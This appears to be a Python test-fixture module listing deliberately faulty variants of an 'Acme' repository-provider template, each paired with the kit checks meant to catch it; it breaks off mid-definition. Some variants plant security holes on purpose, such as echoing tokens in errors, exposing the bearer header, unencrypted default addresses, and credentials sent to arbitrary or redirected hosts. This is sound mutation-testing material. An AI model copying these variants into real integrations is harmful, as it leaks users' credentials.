"""Faulty providers: copies of the template with one mistake each, and the checks that must find it.

Each mistake is one that an author of a provider could make. The texts are replaced in a copy of the
template's package.
"""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["CURSORS", "LISTING_ALL", "MUTANTS", "TOKENS", "Mutant", "Replacement", "signing_in"]


@dataclass(frozen=True)
class Replacement:
    """New text in a module of the template.

    Attributes:
        old: Stands there exactly once.
    """

    module: str
    old: str
    new: str


@dataclass(frozen=True)
class Mutant:
    """A wrong provider.

    Attributes:
        mistake: What its author did, as a sentence without a full stop.
        caught_by: Every one of these checks of the kit must fail.
        refused: What the registry says where the mistake keeps the provider from being loaded.
    """

    mistake: str
    replacements: tuple[Replacement, ...]
    caught_by: tuple[str, ...]
    refused: str = ""

    def __str__(self) -> str:
        return self.mistake.replace(" ", "-")


def in_provider(*texts: str) -> tuple[Replacement, ...]:
    """Old and new texts in turn."""
    return _in("provider.py", texts)


def in_configuration(*texts: str) -> tuple[Replacement, ...]:
    return _in("configuration.py", texts)


def in_answers(*texts: str) -> tuple[Replacement, ...]:
    return _in("answers.py", texts)


def in_sandbox(*texts: str) -> tuple[Replacement, ...]:
    return _in("sandbox.py", texts)


def in_contract(*texts: str) -> tuple[Replacement, ...]:
    return _in("contract.py", texts)


def _in(module: str, texts: tuple[str, ...]) -> tuple[Replacement, ...]:
    pairs = zip(texts[::2], texts[1::2], strict=True)
    return tuple(Replacement(module, old, new) for old, new in pairs)


# Places in the template that several mutants change.
IMPORTS = "from urllib.parse import quote\n"
ERRORS = "from deploycore.errors import DeploycoreError, PermissionDenied\n"
INIT = "        self._http = http.explaining(explain)\n"
USER = '        user = parse_answer(UserAnswer, self._http.get_json("user"), what="the user")\n'
ACCOUNT = "        return Account(username=user.login, display_name=user.name)\n"
LIST_BRANCHES = (
    "    def list_branches(self, repository: RepositoryId, query: BranchQuery) "
    "-> Iterable[Branch]:\n"
)
OWNER_PATH = '        path = f"owners/{_quoted(query.owner or self._config.owner)}/repositories"\n'
REPOSITORY_PAGES = "        for page in self._pages(path, query.name_contains, query.limit):\n"
REPOSITORY_ANSWERS = (
    "            answers = parse_answer(list[RepositoryAnswer], page, "
    'what="a page of repositories")\n'
)
REPOSITORIES = "            yield from (answer.repository() for answer in answers)\n"
REPOSITORY_LOOP = REPOSITORY_PAGES + REPOSITORY_ANSWERS + REPOSITORIES
BRANCH_PAGES = (
    "        for page in self._pages(path, query.name or query.name_contains, query.limit):\n"
)
BRANCH_ANSWERS = (
    '            answers = parse_answer(list[BranchAnswer], page, what="a page of branches")\n'
)
BRANCHES = "            yield from (answer.branch() for answer in answers)\n"
BRANCH_LOOP = BRANCH_PAGES + BRANCH_ANSWERS + BRANCHES
CREDENTIAL = (
    "        credential = GitCredential(username=GIT_USERNAME, password=self._config.token)\n"
)
CLONE_ADDRESS = 'f"{self._config.url}/{repository.path}.git"'
CLONE_URL = f"        return CloneUrl(url={CLONE_ADDRESS}, credential=credential)\n"
PAGES = "        return self._http.linked_pages(path, params=params)\n"
ONLY_403 = "    if answer.status != 403:\n        return None\n"
HINT = 'hint=f"Create a token with the scope {READ_SCOPE}.",\n'
ADDRESS = (
    '    url: HttpsAddress = Field(default="https://acme.example", description="address of Acme")\n'
)
TOKEN = '    token: TokenStr = Field(description=f"access token with the scope {READ_SCOPE}")\n'
API_AUTH = "        return BearerAuth(\n            self.token\n        )"
PRIVATE = "            private=self.private,\n"
DEFAULT_BRANCH = "            default_branch=self.default_branch,\n"

OWN_CLIENT = """        url = f"{self._config.api_base_url}/{path}"
        secret = self._config.token.get_secret_value()
        session = requests.Session()
        session.headers["Authorization"] = f"Bearer {secret}"
        while url:
            answer = session.get(url, params=params, timeout=30)
            if answer.status_code >= 500:
                raise ProviderUnavailable("Acme is down")
            if answer.status_code >= 400:
                raise NotFound("There is nothing")
            yield answer.json()
            url, params = answer.links.get("next", {}).get("url"), {}
"""
OWN_CLIENT_IMPORTS = (
    IMPORTS,
    f"{IMPORTS}import requests\n",
    ERRORS,
    f"{ERRORS}from deploycore.errors import NotFound, ProviderUnavailable\n",
)


def explaining(body: str, *errors: str) -> tuple[Replacement, ...]:
    """A provider with these lines before all else in ``explain``."""
    names = ", ".join(sorted({"DeploycoreError", "PermissionDenied", *errors}))
    return in_provider(
        ERRORS, f"from deploycore.errors import {names}\n", ONLY_403, f"{body}{ONLY_403}"
    )


def explaining_git(said: str) -> tuple[Replacement, ...]:
    """A provider with the optional hook, which returns this."""
    return in_provider(
        "    def _pages(self",
        "    @hookimpl\n"
        "    def explain_git_refusal(self, status: int | None, message: str) -> str | None:\n"
        f"        {said}\n\n"
        "    def _pages(self",
    )


def guarded(loop: str, errors: str, reaction: str) -> tuple[Replacement, ...]:
    """A provider that does something of its own about errors in a listing."""
    indented = "".join(f"    {line}\n" for line in loop.splitlines())
    return in_provider(
        ERRORS,
        "from deploycore.errors import *\nfrom deploycore.errors import DeploycoreError, "
        "PermissionDenied\n",
        loop,
        f"        try:\n{indented}        except {errors}:\n            {reaction}\n",
    )


LISTING_ALL = (
    "test_all_pages_are_listed_in_the_hosts_order",
    "test_all_branches_of_all_pages_are_listed_with_their_commits",
)
LOADING = ("test_the_class_fulfils_the_contract",)

CLASS_AND_CONFIGURATION = (
    Mutant(
        "names no version of the contract",
        in_provider("    API_VERSION = 1\n", ""),
        LOADING,
        refused="it has no API_VERSION",
    ),
    Mutant(
        "forgets to mark a hook",
        in_provider("    @hookimpl\n    def clone_url", "    def clone_url"),
        LOADING,
        refused="clone_url lacks @hookimpl",
    ),
    Mutant(
        "gives a parameter of a hook a default",
        in_provider("query: RepositoryQuery)", "query: RepositoryQuery = RepositoryQuery())"),
        LOADING,
        refused="should be list_repos(self, query), without defaults",
    ),
    Mutant(
        "writes a hook as a coroutine",
        in_provider("    def authenticate(self)", "    async def authenticate(self)"),
        LOADING,
        refused="authenticate is asynchronous",
    ),
    Mutant(
        "invents a hook",
        in_provider("    def _pages(self", "    @hookimpl\n    def _pages(self"),
        LOADING,
        refused="_pages is marked @hookimpl, but is not a hook of the contract",
    ),
    Mutant(
        "wants more than the configuration and a client",
        in_provider("http: HttpClient) -> None", "http: HttpClient, retries: int) -> None"),
        LOADING,
        refused="its __init__ does not take (config, http)",
    ),
    Mutant(
        "asks the host while it is made",
        in_provider(INIT, f'{INIT}        self._user = self._http.get_json("user")\n'),
        ("test_a_provider_is_opened_without_a_request",),
    ),
    Mutant(
        "has a way to sign in that the sandbox does not know",
        in_configuration(
            "from pydantic import Field\n",
            "from typing import Annotated, Literal\n\nfrom pydantic import Field\n",
            TOKEN,
            f'{TOKEN}    mode: Literal["token"] = Field("token", description="how to sign in")\n',
            "(also BasicAuth, HeaderAuth)\n",
            "(also BasicAuth, HeaderAuth)\n\n\n"
            "class OtherConfig(AcmeConfig):\n"
            '    mode: Literal["password"] = Field("password", description="how to sign in")\n\n\n'
            'AnyConfig = Annotated[AcmeConfig | OtherConfig, Field(discriminator="mode")]\n',
        )
        + in_provider(
            "import READ_SCOPE, AcmeConfig\n",
            "import READ_SCOPE, AcmeConfig, AnyConfig\n",
            "    Config = AcmeConfig\n",
            "    Config = AnyConfig\n",
        )
        + in_sandbox('"token": credential.secret}', '"token": credential.secret, "mode": "token"}'),
        ("test_every_way_to_sign_in_is_tried",),
    ),
    Mutant(
        "describes a field with nothing",
        in_configuration(
            'min_length=1, description="owner of the repositories, as in acme.example/<owner>"',
            "min_length=1",
        ),
        ("test_every_field_of_the_configuration_is_described",),
    ),
    Mutant(
        "types the token as a text",
        in_configuration(
            TOKEN,
            '    token: str = Field(description="access token")\n',
            "            self.token\n",
            "            SecretStr(self.token)\n",
            "from pydantic import Field\n",
            "from pydantic import Field, SecretStr\n",
        )
        + in_provider("password=self._config.token", "password=SecretStr(self._config.token)")
        + in_provider(IMPORTS, f"{IMPORTS}from pydantic import SecretStr\n")
        + in_sandbox(
            '"token": credential.secret}', '"token": credential.secret.get_secret_value()}'
        ),
        (
            "test_every_secret_of_the_configuration_is_typed_as_one",
            "test_configurations_and_results_show_no_secret",
        ),
    ),
    Mutant(
        "takes an empty token",
        in_configuration(
            "HttpsAddress, ProviderConfig, TokenStr\n",
            "HttpsAddress, ProviderConfig\n",
            "from pydantic import Field\n",
            "from pydantic import Field, SecretStr\n",
            "token: TokenStr",
            "token: SecretStr",
        ),
        ("test_a_secret_that_is_no_secret_is_refused_without_being_shown",),
    ),
    Mutant(
        "shows what the configuration was given in its own errors",
        in_configuration(
            "from pydantic import Field\n",
            "from pydantic import Field, field_validator\n",
            "    @property\n    def api_base_url",
            '    @field_validator("token", mode="before")\n'
            "    @classmethod\n"
            "    def _checked(cls, value: object) -> object:\n"
            "        secret = value.get_secret_value()\n"
            '        if not secret.isalnum() and "_" not in secret:\n'
            '            raise ConfigurationError(f"{secret!r} is no token of Acme")\n'
            "        return value\n\n"
            "    @property\n    def api_base_url",
            "from deploycore.http import",
            "from deploycore.errors import ConfigurationError\nfrom deploycore.http import",
        ),
        ("test_a_secret_that_is_no_secret_is_refused_without_being_shown",),
    ),
    Mutant(
        "lets a default address be unencrypted",
        in_configuration('default="https://acme.example"', 'default="http://acme.example"'),
        ("test_the_addresses_that_are_there_by_default_are_encrypted",),
    ),
    Mutant(
        "types the address as a text",
        in_configuration("url: HttpsAddress", "url: str"),
        ("test_an_address_may_be_given_with_a_slash_at_its_end",),
    ),
    Mutant(
        "signs requests itself and so takes any address",
        in_configuration(
            "url: HttpsAddress",
            "url: str",
            "-> HttpAuth:",
            "-> HttpAuth | None:",
            API_AUTH,
            "        return None",
        )
        + in_provider(*OWN_CLIENT_IMPORTS, PAGES, OWN_CLIENT),
        ("test_credentials_are_never_sent_unencrypted_to_another_machine",),
    ),
    Mutant(
        "takes unknown fields of the configuration",
        in_configuration(
            '    """One account of Acme."""\n',
            '    """One account of Acme."""\n\n'
            '    model_config = ConfigDict(extra="allow", hide_input_in_errors=True)\n',
            "from pydantic import Field\n",
            "from pydantic import ConfigDict, Field\n",
        ),
        ("test_an_unknown_field_is_refused",),
    ),
    Mutant(
        "validates the configuration as if all of it were there",
        in_configuration(
            "from pydantic import Field\n",
            "from pydantic import Field, model_validator\n",
            "    @property\n    def api_base_url",
            '    @model_validator(mode="before")\n'
            "    @classmethod\n"
            "    def _stripped(cls, values: dict[str, object]) -> dict[str, object]:\n"
            '        return {**values, "owner": values["owner"].strip()}\n\n'
            "    @property\n    def api_base_url",
        ),
        ("test_what_is_missing_is_named",),
    ),
    Mutant(
        "shows the header in the configuration",
        in_configuration(
            "from pydantic import Field\n",
            "from pydantic import Field, computed_field\n",
            "    @property\n    def api_base_url",
            "    @computed_field\n"
            "    @property\n"
            "    def authorisation(self) -> str:\n"
            '        return f"Bearer {self.token.get_secret_value()}"\n\n'
            "    @property\n    def api_base_url",
        ),
        ("test_configurations_and_results_show_no_secret",),
    ),
)

AUTHENTICATION = (
    Mutant(
        "believes the configuration instead of asking who it is",
        in_provider(USER + ACCOUNT, "        return Account(username=self._config.owner)\n"),
        (
            "test_signing_in_is_cheap",
            "test_every_call_of_authenticate_asks_the_host",
            "test_credentials_that_the_host_refuses_are_called_so",
        ),
    ),
    Mutant(
        "asks who it is and believes the configuration",
        in_provider(ACCOUNT, "        return Account(username=self._config.owner)\n"),
        ("test_the_account_is_the_one_that_the_host_names",),
    ),
    Mutant(
        "asks only once who it is",
        in_provider(
            IMPORTS,
            f"from functools import lru_cache\n{IMPORTS}",
            "    @hookimpl\n    def authenticate",
            "    @hookimpl\n    @lru_cache(1)\n    def authenticate",
        ),
        ("test_every_call_of_authenticate_asks_the_host",),
    ),
    Mutant(
        "reads all repositories to sign in",
        in_provider(ACCOUNT, f"        list(self.list_repos(RepositoryQuery()))\n{ACCOUNT}"),
        ("test_signing_in_is_cheap",),
    ),
    Mutant(
        "answers with the host's words",
        in_provider(ACCOUNT, "        return user\n"),
        ("test_right_credentials_say_whose_they_are",),
    ),
    Mutant(
        "gives nothing where anything goes wrong",
        in_provider(
            USER,
            f"        try:\n    {USER}        except Exception:\n            return None\n",
        ),
        (
            "test_credentials_that_the_host_refuses_are_called_so",
            "test_what_goes_wrong_is_a_typed_error",
        ),
    ),
    Mutant(
        "takes refused credentials for an empty list",
        guarded(REPOSITORY_LOOP, "AuthenticationFailed", "return"),
        (
            "test_listings_say_too_that_credentials_are_refused",
            "test_credentials_that_end_while_a_listing_is_read_end_it",
        ),
    ),
    Mutant(
        "takes a refusal of branches for no branches",
        guarded(BRANCH_LOOP, "(AuthenticationFailed, PermissionDenied)", "return"),
        (
            "test_listings_say_too_that_credentials_are_refused",
            "test_a_missing_scope_is_named",
        ),
    ),
    Mutant(
        "calls expired credentials a missing permission",
        in_provider("answer.status != 403", "answer.status not in (401, 403)"),
        (
            "test_credentials_that_the_host_refuses_are_called_so",
            "test_what_goes_wrong_is_a_typed_error",
        ),
    ),
    Mutant(
        "says of wrong credentials nothing that helps",
        explaining(
            '    if answer.status == 401:\n        return AuthenticationFailed("Acme said no.")\n',
            "AuthenticationFailed",
        ),
        ("test_credentials_that_the_host_refuses_are_called_so",),
    ),
    Mutant(
        "does not name the missing scope",
        in_provider(HINT, 'hint="Make another token.",\n'),
        ("test_a_missing_scope_is_named",),
    ),
    Mutant(
        "has no other way to sign in where who-am-I asks for more",
        in_sandbox(
            "        caller = self.caller(request)\n",
            '        caller = self.caller(request, "repositories:write")\n',
        ),
        ("test_the_least_privileged_credentials_will_do",),
    ),
    Mutant(
        "keeps its client on the class",
        in_provider(INIT, "        type(self)._http = http.explaining(explain)\n"),
        ("test_two_providers_of_the_kind_do_not_disturb_each_other",),
    ),
)

LISTING = (
    Mutant(
        "reads the first page alone",
        in_provider(PAGES, "        yield self._http.get_json(path, params=params)\n"),
        LISTING_ALL,
    ),
    Mutant(
        "drops the last item of a page",
        in_provider(REPOSITORIES, REPOSITORIES.replace("in answers", "in answers[:-1]")),
        (
            "test_all_pages_are_listed_in_the_hosts_order",
            "test_a_repository_is_described_in_full",
        ),
    ),
    Mutant(
        "sorts repositories by name",
        in_provider(
            "list_repos(self, query: RepositoryQuery) -> Iterable[Repository]:\n",
            "list_repos(self, query: RepositoryQuery) -> Iterable[Repository]:\n"
            "        yield from sorted(self._all(query), key=lambda row: row.name, reverse=True)\n"
            "\n"
            "    def _all(self, query: RepositoryQuery) -> Iterable[Repository]:\n",
        ),
        (
            "test_all_pages_are_listed_in_the_hosts_order",
            "test_a_limit_is_kept_and_saves_requests",
        ),
    ),
    Mutant(
        "starts again at the end of a listing",
        in_provider(
            REPOSITORY_LOOP,
            "        while True:\n"
            + "".join(f"    {line}\n" for line in REPOSITORY_LOOP.splitlines()),
        ),
        ("test_an_owner_without_repositories_has_an_empty_list", LISTING_ALL[0]),
    ),
    Mutant(
        "gives a list",
        in_provider(
            REPOSITORY_LOOP,
            "        found = []\n"
            + REPOSITORY_LOOP.replace("yield from (", "found.extend(")
            + "        return found\n",
        ),
        (
            "test_nothing_is_asked_before_the_first_item_is_wanted",
            "test_a_limit_is_kept_and_saves_requests",
        ),
    ),
    Mutant(
        "asks for the first page before it is wanted",
        in_provider(
            PAGES,
            "        pages = self._http.linked_pages(path, params=params)\n"
            "        return chain([next(pages)], pages)\n",
            IMPORTS,
            f"from itertools import chain\n{IMPORTS}",
            REPOSITORY_LOOP,
            "        pages = self._pages(path, query.name_contains, query.limit)\n"
            "        return (\n"
            "            answer.repository()\n"
            "            for page in pages\n"
            '            for answer in parse_answer(list[RepositoryAnswer], page, what="a page")\n'
            "        )\n",
        ),
        ("test_nothing_is_asked_before_the_first_item_is_wanted",),
    ),
    Mutant(
        "reads all pages before it gives the first item",
        in_provider(
            PAGES, "        yield from list(self._http.linked_pages(path, params=params))\n"
        ),
        (
            "test_a_limit_is_kept_and_saves_requests",
            "test_a_listing_that_is_left_early_asks_no_more",
            "test_what_was_listed_before_a_page_failed_was_given",
        ),
    ),
    Mutant(
        "remembers which repository it lists",
        in_provider(
            LIST_BRANCHES,
            LIST_BRANCHES + "        self._repository = repository\n"
            "        return self._branches(query)\n"
            "\n"
            "    def _branches(self, query: BranchQuery) -> Iterable[Branch]:\n",
            '_quoted(repository.owner), _quoted(repository.slug)\n        path = f"repos',
            "_quoted(self._repository.owner), _quoted(self._repository.slug)\n"
            '        path = f"repos',
        ),
        ("test_listings_at_the_same_time_do_not_disturb_each_other",),
    ),
    Mutant(
        "gathers what it lists in itself",
        in_provider(
            BRANCH_LOOP,
            "        self._found = []\n"
            + BRANCH_LOOP.replace("yield from (", "self._found.extend(")
            + "        yield from self._found\n",
        ),
        ("test_calls_from_several_threads_do_not_disturb_each_other",),
    ),
    Mutant(
        "keeps repositories for the next call",
        in_provider(
            INIT,
            f"{INIT}        self._known: list[Repository] = []\n",
            REPOSITORY_LOOP,
            "        if not self._known:\n"
            + "".join(f"    {line}\n" for line in REPOSITORY_LOOP.splitlines()).replace(
                "yield from (", "self._known.extend("
            )
            + "        yield from self._known\n",
        ),
        ("test_a_listing_can_be_read_again",),
    ),
    Mutant(
        "keeps branches for the next call",
        in_provider(
            INIT,
            f"{INIT}        self._known: dict[RepositoryId, list[Branch]] = {{}}\n",
            BRANCH_LOOP,
            "        if repository in self._known and not query.name:\n"
            "            yield from self._known[repository]\n"
            "            return\n"
            "        found = self._known[repository] = []\n"
            + BRANCH_PAGES
            + BRANCH_ANSWERS
            + "            rows = [answer.branch() for answer in answers]\n"
            "            found += rows\n"
            "            yield from rows\n",
        ),
        ("test_a_listing_can_be_read_again",),
    ),
    Mutant(
        "does not look at the owner that is asked for",
        in_provider("_quoted(query.owner or self._config.owner)", "_quoted(self._config.owner)"),
        ("test_an_unknown_owner_is_an_error",),
    ),
    Mutant(
        "has another address for an owner that is asked for",
        in_provider(
            OWNER_PATH,
            f"{OWNER_PATH}        if query.owner:\n"
            '            path = f"organisations/{_quoted(query.owner)}/repositories"\n',
        ),
        ("test_an_owner_can_be_named",),
    ),
    Mutant(
        "takes an unknown owner for an empty list",
        guarded(REPOSITORY_LOOP, "NotFound", "return"),
        ("test_an_unknown_owner_is_an_error", "test_what_is_gone_is_not_found"),
    ),
    Mutant(
        "takes an unknown repository for one without branches",
        guarded(BRANCH_LOOP, "NotFound", "return"),
        (
            "test_a_repository_that_is_unknown_or_hidden_is_not_found",
            "test_an_exact_name_in_an_unknown_repository_is_not_found",
        ),
    ),
    Mutant(
        "takes an unknown repository for an unknown branch",
        guarded(BRANCH_LOOP, "NotFound", "if query.name is None: raise"),
        ("test_an_exact_name_in_an_unknown_repository_is_not_found",),
    ),
    Mutant(
        "calls an owner without repositories unknown",
        in_provider(
            ERRORS,
            f"{ERRORS}from deploycore.errors import NotFound\n",
            REPOSITORY_ANSWERS,
            REPOSITORY_ANSWERS + "            if not answers:\n"
            '                raise NotFound("Acme lists no repositories.")\n',
        ),
        (
            "test_an_owner_without_repositories_has_an_empty_list",
            "test_a_page_without_items_is_not_the_end",
        ),
    ),
    Mutant(
        "calls a repository without branches unknown",
        in_provider(
            ERRORS,
            f"{ERRORS}from deploycore.errors import NotFound\n",
            BRANCH_ANSWERS,
            BRANCH_ANSWERS + "            if not answers and not query.name:\n"
            '                raise NotFound("The repository has no branches.")\n',
        ),
        ("test_an_empty_repository_has_no_branches",),
    ),
    Mutant(
        "calls a branch that does not exist an error",
        in_provider(
            ERRORS,
            f"{ERRORS}from deploycore.errors import NotFound\n",
            BRANCH_ANSWERS,
            BRANCH_ANSWERS
            + "            if query.name and query.name not in [row.name for row in answers]:\n"
            '                raise NotFound(f"There is no branch {query.name}.")\n',
        ),
        ("test_a_branch_that_does_not_exist_is_an_empty_answer",),
    ),
    Mutant(
        "takes the first hit of a search for the branch",
        in_provider(
            BRANCHES,
            "            answers = answers[:1] if query.name else answers\n" + BRANCHES,
        ),
        ("test_a_branch_is_found_by_its_exact_name",),
    ),
    Mutant(
        "stops at the limit before the filters",
        in_provider(
            IMPORTS,
            f"from itertools import islice\n{IMPORTS}",
            BRANCHES,
            "            found = (answer.branch() for answer in answers)\n"
            "            yield from islice(found, query.limit)\n",
        ),
        ("test_a_limit_counts_what_the_filters_let_through",),
    ),
    Mutant(
        "stops at the limit before a part of the name is looked for",
        in_provider(
            IMPORTS,
            f"from itertools import islice\n{IMPORTS}",
            "query.name or query.name_contains, query.limit",
            "query.name, None",
            BRANCHES,
            "            found = (answer.branch() for answer in answers)\n"
            "            yield from islice(found, None if query.name else query.limit)\n",
        ),
        ("test_a_limit_counts_what_the_filters_let_through",),
    ),
    Mutant(
        "looks for a branch on the first page alone",
        in_provider(
            "query.name or query.name_contains, query.limit",
            "query.name_contains, query.limit",
            BRANCHES,
            f"{BRANCHES}            if query.name:\n                return\n",
        ),
        ("test_a_branch_of_the_last_page_is_found",),
    ),
    Mutant(
        "filters by name itself, and not in any case of letters",
        in_provider(
            "self._pages(path, query.name_contains, query.limit)",
            "self._pages(path, None, None)",
            REPOSITORIES,
            "            found = (answer.repository() for answer in answers)\n"
            "            part = query.name_contains or ''\n"
            "            yield from (each for each in found if part in each.name)\n",
        ),
        ("test_names_can_be_filtered",),
    ),
    Mutant(
        "names branches by their full refs",
        in_answers("Branch(name=self.name", 'Branch(name=f"refs/heads/{self.name}"'),
        (LISTING_ALL[1], "test_odd_names_arrive_as_they_are"),
    ),
    Mutant(
        "shortens the hashes of commits",
        in_answers("commit=self.commit)", "commit=self.commit[:12])"),
        (LISTING_ALL[1],),
    ),
    Mutant(
        "shortens the hashes of commits without validation",
        in_answers(
            "return Branch(name=self.name, commit=self.commit)",
            "return Branch.model_construct(name=self.name, commit=self.commit[:12])",
        ),
        (LISTING_ALL[1],),
    ),
    Mutant(
        "writes the hashes of commits in capitals",
        in_answers("commit=self.commit)", "commit=self.commit.upper())"),
        (LISTING_ALL[1],),
    ),
    Mutant(
        "gives the owner as a text",
        in_answers("owner=Owner(username=self.owner.login)", "owner=self.owner.login"),
        ("test_a_repository_is_described_in_full",),
    ),
    Mutant(
        "gives the owner as a text without validation",
        in_answers(
            "return Repository(",
            "return Repository.model_construct(",
            "owner=Owner(username=self.owner.login)",
            "owner=self.owner.login",
        ),
        ("test_a_repository_is_described_in_full",),
    ),
    Mutant(
        "names the owner as people write it",
        in_answers("username=self.owner.login", "username=self.owner.login.title()"),
        ("test_a_repository_is_described_in_full",),
    ),
    Mutant(
        "takes the name for the slug",
        in_answers("slug=self.slug", "slug=self.name"),
        ("test_a_repository_is_described_in_full", "test_odd_names_arrive_as_they_are"),
    ),
    Mutant(
        "writes slugs in small letters",
        in_answers("slug=self.slug", "slug=self.slug.lower()"),
        ("test_odd_names_arrive_as_they_are",),
    ),
    Mutant(
        "leaves letters out that are not ASCII",
        in_answers("name=self.name,\n", 'name=self.name.encode("ascii", "ignore").decode(),\n'),
        ("test_a_repository_is_described_in_full", "test_odd_names_arrive_as_they_are"),
    ),
    Mutant(
        "calls every repository private",
        in_answers(PRIVATE, ""),
        ("test_public_and_empty_repositories_are_described_as_such",),
    ),
    Mutant(
        "takes private for public",
        in_answers(PRIVATE, "            private=not self.private,\n"),
        ("test_a_repository_is_described_in_full",),
    ),
    Mutant(
        "calls every default branch main",
        in_answers(DEFAULT_BRANCH, '            default_branch="main",\n'),
        ("test_a_repository_is_described_in_full",),
    ),
    Mutant(
        "has an empty name for the default branch that is not there",
        in_answers(DEFAULT_BRANCH, '            default_branch=self.default_branch or "",\n'),
        ("test_public_and_empty_repositories_are_described_as_such",),
    ),
    Mutant(
        "gives the address of the API's data for people",
        in_answers("url=self.web_url", 'url=f"/{self.slug}"'),
        ("test_a_repository_is_described_in_full",),
    ),
    Mutant(
        "gives the address of the page on a host that is not configured",
        in_answers(
            "url=self.web_url", 'url=f"https://acme.example/{self.owner.login}/{self.slug}"'
        ),
        ("test_a_repository_is_described_in_full",),
    ),
    Mutant(
        "lists clone links that lead nowhere",
        in_answers("href=self.clone_url", 'href=self.clone_url.rpartition("/")[0]'),
        ("test_a_repository_is_described_in_full",),
    ),
    Mutant(
        "lists clone links with a user",
        in_answers("href=self.clone_url", 'href=self.clone_url.replace("://", "://ada@")'),
        ("test_clone_links_hold_no_user_information",),
    ),
    Mutant(
        "does not quote names in requests",
        in_provider('    return quote(name, safe="")\n', "    return name\n"),
        ("test_names_are_quoted_once_in_requests",),
    ),
    Mutant(
        "does not quote names in addresses of repositories",
        in_provider("{repository.path}", "{repository}"),
        ("test_names_are_quoted_once_in_the_address",),
    ),
    Mutant(
        "quotes names twice",
        in_provider(
            '    return quote(name, safe="")\n', '    return quote(quote(name, safe=""))\n'
        ),
        ("test_names_are_quoted_once_in_requests",),
    ),
    Mutant(
        "quotes names in addresses of repositories twice",
        in_provider("{repository.path}", "{quote(repository.path)}"),
        ("test_names_are_quoted_once_in_the_address",),
    ),
    Mutant(
        "does not quote slashes",
        in_provider('    return quote(name, safe="")\n', "    return quote(name)\n"),
        ("test_names_are_quoted_once_in_requests",),
    ),
)

PAGINATION = (
    Mutant(
        "numbers pages itself until one is short",
        in_provider(
            PAGES,
            "        number, page = 0, [None] * size\n"
            "        while len(page) == size:\n"
            "            number += 1\n"
            '            page = self._http.get_json(path, params={**params, "page": number})\n'
            "            yield page\n",
        ),
        (
            "test_a_page_without_items_is_not_the_end",
            "test_a_loop_of_pages_is_an_error",
        ),
    ),
    Mutant(
        "takes a page without items for the end",
        in_provider(
            PAGES,
            "        for page in self._http.linked_pages(path, params=params):\n"
            "            if not page:\n"
            "                return\n"
            "            yield page\n",
        ),
        ("test_a_page_without_items_is_not_the_end",),
    ),
    Mutant(
        "follows links with a client of its own",
        in_provider(*OWN_CLIENT_IMPORTS, PAGES, OWN_CLIENT),
        (
            "test_a_link_to_another_place_is_not_followed",
            "test_a_redirect_to_another_host_is_not_followed",
            "test_what_passes_by_itself_is_tried_again",
            "test_a_page_that_fails_once_is_asked_for_again",
        ),
    ),
    Mutant(
        "has a client of its own that follows no redirects",
        in_provider(
            *OWN_CLIENT_IMPORTS,
            PAGES,
            OWN_CLIENT.replace("timeout=30", "timeout=30, allow_redirects=False"),
        ),
        ("test_a_redirect_on_the_host_is_followed",),
    ),
    Mutant(
        "drops repeated items itself and so never ends",
        in_provider(
            *OWN_CLIENT_IMPORTS,
            PAGES,
            "        seen = []\n"
            + OWN_CLIENT.replace(
                "            yield answer.json()\n",
                "            fresh = [item for item in answer.json() if item not in seen]\n"
                "            seen += fresh\n"
                # The core ends a listing of a thousand empty pages.
                "            if fresh:\n"
                "                yield fresh\n",
            ),
        ),
        ("test_pages_without_end_are_an_error",),
    ),
    Mutant(
        "takes a page without branches for the end",
        in_provider(
            BRANCH_ANSWERS,
            f"{BRANCH_ANSWERS}            if not answers:\n                return\n",
        ),
        ("test_a_page_without_items_is_not_the_end",),
    ),
    Mutant(
        "ends a listing of branches where a page fails",
        guarded(BRANCH_LOOP, "ProviderError", "return"),
        ("test_what_was_listed_before_a_page_failed_was_given",),
    ),
    Mutant(
        "takes forty pages for enough",
        in_provider(
            IMPORTS,
            f"from itertools import islice\n{IMPORTS}",
            PAGES,
            "        return islice(self._http.linked_pages(path, params=params), 40)\n",
        ),
        ("test_pages_without_end_are_an_error",),
    ),
    Mutant(
        "takes a link that it can't follow for the end",
        in_provider(
            ERRORS,
            f"{ERRORS}from deploycore.errors import UnexpectedAnswer\n",
            PAGES,
            "        try:\n"
            "            yield from self._http.linked_pages(path, params=params)\n"
            "        except UnexpectedAnswer:\n"
            "            return\n",
        ),
        (
            "test_a_malformed_link_is_an_error",
            "test_a_loop_of_pages_is_an_error",
            "test_a_link_to_another_place_is_not_followed",
        ),
    ),
    Mutant(
        "ends a listing where a page fails",
        guarded(REPOSITORY_LOOP, "ProviderError", "return"),
        (
            "test_what_was_listed_before_a_page_failed_was_given",
            "test_credentials_that_end_while_a_listing_is_read_end_it",
        ),
    ),
)

FAILURES = (
    Mutant(
        "says of every refusal that nothing was found",
        explaining(
            "    if answer.status in (403, 404):\n"
            '        return NotFound("There is nothing.", status=answer.status)\n',
            "NotFound",
        ),
        ("test_what_goes_wrong_is_a_typed_error", "test_a_missing_scope_is_named"),
    ),
    Mutant(
        "says of what is not there that it may not be seen",
        in_provider("answer.status != 403", "answer.status not in (403, 404)"),
        (
            "test_what_is_gone_is_not_found",
            "test_a_repository_that_is_unknown_or_hidden_is_not_found",
        ),
    ),
    Mutant(
        "calls a rate limit an outage",
        explaining(
            "    if answer.status == 429:\n"
            '        return ProviderUnavailable("Acme is busy.", hint="Try again later.")\n',
            "ProviderUnavailable",
        ),
        ("test_a_rate_limit_is_told_with_its_end",),
    ),
    Mutant(
        "does not say when a rate limit ends",
        explaining(
            '    if answer.status == 429:\n        return RateLimited("Acme asks for less.")\n',
            "RateLimited",
        ),
        ("test_a_rate_limit_is_told_with_its_end",),
    ),
    Mutant(
        "tells the end of a rate limit without a time zone",
        explaining(
            "    if answer.status == 429:\n"
            '        wait = timedelta(seconds=int(answer.headers.get("Retry-After", 60)))\n'
            '        return RateLimited("Slowly.", retry_at=datetime.utcnow() + wait)\n',
            "RateLimited",
        )
        + in_provider(IMPORTS, f"from datetime import datetime, timedelta\n{IMPORTS}"),
        ("test_a_rate_limit_is_told_with_its_end",),
    ),
    Mutant(
        "reads a message that not every refusal has",
        explaining(
            "    if answer.status == 401:\n"
            '        return AuthenticationFailed(answer.json["message"], hint="Look.")\n',
            "AuthenticationFailed",
        ),
        ("test_what_goes_wrong_is_a_typed_error",),
    ),
    Mutant(
        "tries again for ever",
        in_provider(
            IMPORTS,
            f"import time\n{IMPORTS}",
            ERRORS,
            f"{ERRORS}from deploycore.errors import ProviderUnavailable\n",
            USER,
            "        while True:\n"
            "            try:\n"
            '                found = self._http.get_json("user")\n'
            "                break\n"
